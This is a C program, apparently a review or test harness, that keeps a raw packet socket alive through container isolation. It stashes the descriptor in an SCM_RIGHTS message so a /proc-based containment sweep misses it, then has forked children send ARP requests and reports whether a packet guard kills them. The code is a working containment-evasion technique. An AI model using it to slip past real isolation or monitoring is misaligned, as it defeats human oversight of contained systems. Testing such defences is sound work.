/* A packet socket hidden from the containment sweep (review): opened
 * before the container is isolated, bound to eth0, its descriptor sent to
 * the process itself in an SCM_RIGHTS message and closed, so no process
 * holds it in /proc/<pid>/fd. After `go` appears, each of N children takes
 * it out of the message, queues it again for the next one, and sends one
 * ARP request for TARGET (the packet guard kills a sender after its send).
 * Usage: pkthide TARGET N GOFILE. Prints "ready", then one line per child. */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "scm_rights.h"

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	struct in_addr target;
	inet_pton(AF_INET, argv[1], &target);
	int n = atoi(argv[2]);
	int pk = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
	if (pk < 0) {
		perror("socket");
		return 1;
	}
	struct ifreq ifr = {0};
	strcpy(ifr.ifr_name, "eth0");
	if (ioctl(pk, SIOCGIFINDEX, &ifr) < 0 || ioctl(pk, SIOCGIFHWADDR, &ifr) < 0) {
		perror("ioctl");
		return 1;
	}
	unsigned char mac[6];
	memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
	ioctl(pk, SIOCGIFINDEX, &ifr);
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ARP),
				 .sll_ifindex = ifr.ifr_ifindex, .sll_halen = 6};
	memset(to.sll_addr, 0xff, 6);
	unsigned char f[42] = {0};
	memset(f, 0xff, 6);
	memcpy(f + 6, mac, 6);
	f[12] = 0x08, f[13] = 0x06;                      /* ARP */
	f[14] = 0, f[15] = 1, f[16] = 8, f[17] = 0;      /* ethernet, IPv4 */
	f[18] = 6, f[19] = 4, f[20] = 0, f[21] = 1;      /* request */
	memcpy(f + 22, mac, 6);
	memcpy(f + 38, &target, 4);
	int sp[2];
	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sp) < 0)
		return 1;
	send_fd(sp[0], pk);
	close(pk);
	printf("ready\n");
	fflush(stdout);
	struct stat st;
	while (stat(argv[3], &st) != 0)
		usleep(20000);
	for (int i = 0; i < n; i++) {
		pid_t c = fork();
		if (c == 0) {
			int fd = recv_fd(sp[1]);
			send_fd(sp[0], fd);
			sendto(fd, f, sizeof(f), 0, (struct sockaddr *)&to, sizeof(to));
			sleep(2);
			_exit(0);
		}
		int status;
		waitpid(c, &status, 0);
		printf("child %d: %s %d\n", i, WIFSIGNALED(status) ? "signal" : "exit",
		       WIFSIGNALED(status) ? WTERMSIG(status) : WEXITSTATUS(status));
		fflush(stdout);
		usleep(200000);
	}
	return 0;
}
